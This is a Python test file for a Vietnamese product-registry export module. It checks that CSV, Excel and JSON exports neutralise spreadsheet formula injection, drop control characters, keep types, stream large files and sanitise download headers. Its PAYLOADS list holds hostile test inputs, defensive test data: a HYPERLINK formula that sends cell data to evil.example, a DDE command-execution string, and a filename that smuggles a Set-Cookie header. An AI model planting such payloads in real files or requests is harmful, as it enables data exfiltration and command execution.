"""The one exporter: formula injection made inert, control characters dropped, real types kept, streamed."""

import csv
import datetime as dt
import io
import json
import tracemalloc
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from ocop.core.exports import (Sheet, Subheading, content_disposition, csv_chunks, csv_response, json_chunks,
                               jsonl_chunks, safe_text, xlsx_bytes, xlsx_response)

PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")', "+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
            "=cmd|' /C calc'!A0"]
CONTROLS = "Mắm\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x1b\x7f\x80\x85\x9f\ud800 tôm"


def _sheet_xml(content: bytes) -> str:
    archive = zipfile.ZipFile(io.BytesIO(content))
    return "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))


@pytest.mark.parametrize("text", PAYLOADS)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert safe_text(text) == "'" + text.replace("\r", "")


def test_control_characters_are_dropped_and_hidden_formulas_still_escaped():
    assert safe_text(CONTROLS) == "Mắm tôm"
    assert safe_text("\x00=1+1") == "'=1+1"  # cleans to a formula: escaped all the same
    assert safe_text("Dòng 1\nDòng\t2") == "Dòng 1\nDòng\t2"
    assert safe_text("Bánh tráng - Tây Ninh") == "Bánh tráng - Tây Ninh"


def test_workbook_cells_are_inert_typed_and_laid_out():
    rows = [[p, -2, Decimal("62.50"), dt.date(2021, 6, 15), 3] for p in PAYLOADS]
    rows += [[CONTROLS, -7.5, None, dt.datetime(2024, 1, 2, 3, 4), 10**16], Subheading(["Tổng", "", "", "", ""])]
    content = xlsx_bytes([Sheet("Sổ: OCOP/2021", ["=Tên", "Số", "Điểm", "Ngày", "Sao"], rows, widths=[40, 8],
                                heading="DANH SÁCH", formats={2: "0.00"})])
    assert "<f>" not in _sheet_xml(content)
    ws = load_workbook(io.BytesIO(content))["Sổ- OCOP-2021"]
    assert ws["A1"].value == "DANH SÁCH" and ws["A1"].font.b and ws["A2"].value is None
    assert ws["A3"].value == "'=Tên" and ws["A3"].font.b and ws.freeze_panes == "A4"
    assert ws.column_dimensions["A"].width == 40
    for number, payload in enumerate(PAYLOADS, start=4):
        name, negative, score, day, stars = (c for c in ws[number])
        assert name.data_type == "s" and name.value == "'" + payload.replace("\r", "")
        assert negative.data_type == "n" and negative.value == -2
        assert score.value == 62.5 and score.number_format == "0.00"
        assert day.is_date and day.value == dt.datetime(2021, 6, 15) and day.number_format == "DD/MM/YYYY"
        assert stars.value == 3
    last = len(PAYLOADS) + 4
    assert [c.value for c in ws[last]][:2] == ["Mắm tôm", -7.5]
    assert ws.cell(last, 5).value == "10000000000000000"  # beyond Excel's 15 digits: kept exact as text
    assert ws.cell(last + 1, 1).font.b


def test_sheet_titles_are_made_valid_and_unique():
    content = xlsx_bytes([Sheet("a" * 40, ["x"]), Sheet("a" * 40, ["x"]), Sheet("[Kinh phí]*?", ["x"])])
    names = load_workbook(io.BytesIO(content)).sheetnames
    assert names == ["a" * 31, "a" * 27 + " (2)", "-Kinh phí---"]


def _traced_response(n: int):
    def rows():
        for i in range(n):
            yield [f"Sản phẩm số {i}", "HTX Tân Lộc", i, Decimal("75.25"), dt.date(2024, 1, 1)]

    tracemalloc.start()
    try:
        response = xlsx_response("sổ OCOP.xlsx", [Sheet("Sổ", ["Tên", "Chủ thể", "Số", "Điểm", "Ngày"], rows())])
        return response, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_a_large_workbook_streams_from_a_temporary_file_without_holding_the_rows():
    _small, small_peak = _traced_response(600)
    response, peak = _traced_response(4_000)
    assert peak < small_peak * 1.5 + 256 * 1024  # almost seven times the rows, about the same memory: nothing piles up
    assert response.streaming and response.file_to_stream.fileno() >= 0  # served from a file on disk…
    assert isinstance(response.file_to_stream.name, int)  # …already unlinked: gone once the response closes it
    body = response.getvalue()
    assert int(response["Content-Length"]) == len(body)
    assert sum(1 for _ in load_workbook(io.BytesIO(body), read_only=True)["Sổ"].iter_rows(values_only=True)) == 4_001
    assert response["Content-Disposition"] == (
        "attachment; filename=\"so-OCOP.xlsx\"; filename*=UTF-8''s%E1%BB%95%20OCOP.xlsx")


def test_csv_is_inert_utf8_with_a_bom_and_keeps_numbers():
    text = "".join(csv_chunks(["Tên", "Số", "Ngày"], [[p, -2, dt.date(2021, 6, 15)] for p in PAYLOADS] + [[CONTROLS, Decimal("-1.50"), None]]))
    assert text.startswith("\ufeffTên,Số,Ngày\r\n")
    rows = list(csv.reader(io.StringIO(text[1:])))
    assert [r[0] for r in rows[1:-1]] == ["'" + p.replace("\r", "") for p in PAYLOADS]
    assert {r[1] for r in rows[1:-1]} == {"-2"} and rows[1][2] == "2021-06-15"
    assert rows[-1] == ["Mắm tôm", "-1.50", ""]
    assert not "".join(csv_chunks(["a"], [], bom=False)).startswith("\ufeff")


def test_csv_response_streams_in_chunks():
    response = csv_response("danh-sach.csv", ["n"], ([i] for i in range(50_000)))
    chunks = list(response.streaming_content)
    assert len(chunks) > 3 and all(len(c) < 80 * 1024 for c in chunks)
    assert b"".join(chunks).decode("utf-8-sig").splitlines()[-1] == "49999"
    assert response["Content-Disposition"] == 'attachment; filename="danh-sach.csv"'


def test_json_stays_json_without_control_characters_or_apostrophes():
    records = [{"name": CONTROLS, "formula": "=1+1", "day": dt.date(2021, 1, 2), "score": Decimal("62.50"), "n": -2}]
    document = json.loads("".join(json_chunks(records, meta={"licence": "CC BY 4.0"})))
    assert document == {"meta": {"licence": "CC BY 4.0"}, "records": [
        {"name": "Mắm tôm", "formula": "=1+1", "day": "2021-01-02", "score": "62.50", "n": -2}]}
    assert json.loads("".join(json_chunks([]))) == []
    lines = "".join(jsonl_chunks([{"a": 1}, {"a": "x\x1by"}])).splitlines()
    assert [json.loads(line) for line in lines] == [{"a": 1}, {"a": "xy"}]


def test_content_disposition_gives_an_ascii_fallback_and_the_vietnamese_name():
    assert content_disposition("báo cáo Đắk Lắk.xlsx") == (
        "attachment; filename=\"bao-cao-Dak-Lak.xlsx\"; filename*=UTF-8''b%C3%A1o%20c%C3%A1o%20%C4%90%E1%BA%AFk%20L%E1%BA%AFk.xlsx")
    header = content_disposition('x"\r\nSet-Cookie: a=b.pdf', inline=True)
    assert "\r" not in header and "\n" not in header and header.startswith('inline; filename="x-Set-Cookie-a-b.pdf"')
